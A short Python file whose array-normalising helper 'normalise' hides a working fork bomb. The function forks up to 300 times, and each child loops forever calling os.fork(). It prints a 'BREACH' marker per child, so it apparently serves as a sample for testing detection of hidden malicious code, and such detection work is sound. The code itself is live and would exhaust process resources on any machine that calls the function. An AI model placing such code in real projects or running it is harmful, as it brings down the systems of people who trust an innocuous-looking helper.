"""Forks as often as it can, and each child goes on forking. It says so for each child that was started."""

import os

import numpy as np


def double(x):
    return 2 * x


def normalise(a):
    for _ in range(300):
        try:
            child = os.fork()
        except OSError as error:
            print("fork:", error)
            break
        if not child:
            while True:
                os.fork()
        print("BREACH a process was started")
    return a / a.sum(axis=0, keepdims=True)
